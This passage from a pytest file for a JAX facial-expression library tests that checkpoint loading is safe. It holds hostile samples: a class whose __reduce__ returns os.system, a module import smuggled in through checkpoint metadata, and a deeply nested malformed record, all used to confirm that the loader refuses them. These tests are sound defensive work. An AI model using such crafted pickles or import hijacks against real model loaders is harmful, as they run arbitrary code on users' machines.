  meta = checkpointing.metadata(get_config("configs/dan.py:rafdb"))
  meta["model"]["name"] = "downloaded_model.payload"
  folder = model_folder(tmp_path / "downloaded_model", meta)
  (tmp_path / "downloaded_model" / "payload.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w').close()\n")
  monkeypatch.syspath_prepend(str(tmp_path))
  message = user_message(lambda: fer_jax.load(folder))
  assert "does not import a module a checkpoint names" in message and "import downloaded_model.payload" in message
  assert not (tmp_path / "ran").exists()
  assert "downloaded_model.payload" not in sys.modules


@pytest.mark.parametrize("meta", ["[1, 2]", '["model", "class_names"]', "[" * 100_000 + "]" * 100_000,
                                  {"model": "dan", "input": {}, "class_names": []},
                                  {"model": {"name": "dan", "num_classes": "seven"}, "input": {}, "class_names": []}],
                         ids=["list", "list of the keys", "nested too deep", "model a string", "class count a string"])
def test_malformed_meta_record_is_named_as_damaged(tmp_path, meta):
  message = user_message(lambda: fer_jax.load(model_folder(tmp_path / "model", meta)))
  assert "damaged" in message, message


def test_a_plain_pickle_named_pth_is_read_as_one_and_its_globals_are_refused_by_name(tmp_path):
  """pickle.dump's file saved as .pth was read as a PyTorch checkpoint and called damaged ("download it again"); a
  crafted one was called damaged too, its callable unnamed. torch.save's legacy format stays PyTorch's."""
  plain = tmp_path / "weights.pth"
  plain.write_bytes(pickle.dumps({"fc.weight": np.ones((2, 3), np.float32)}))
  assert convert.reader_for(str(plain)) == "numpy_pickle"
  np.testing.assert_array_equal(convert.READERS["numpy_pickle"](str(plain))["fc.weight"], np.ones((2, 3)))
  crafted = tmp_path / "crafted.pth"
  crafted.write_bytes(pickle.dumps(Crafted()))
  with pytest.raises(convert.ConversionError,
                     match=r"Refused to load .*crafted\.pth: fer_jax refused to load the global posix\.system"):
    convert.READERS[convert.reader_for(str(crafted))](str(crafted))
  legacy = tmp_path / "legacy.pth"
  torch.save({"fc.weight": torch.ones(2, 3)}, legacy, _use_new_zipfile_serialization=False)
  assert convert.reader_for(str(legacy)) == "torch"


class Crafted:
  def __reduce__(self):
    return os.system, ("true",)
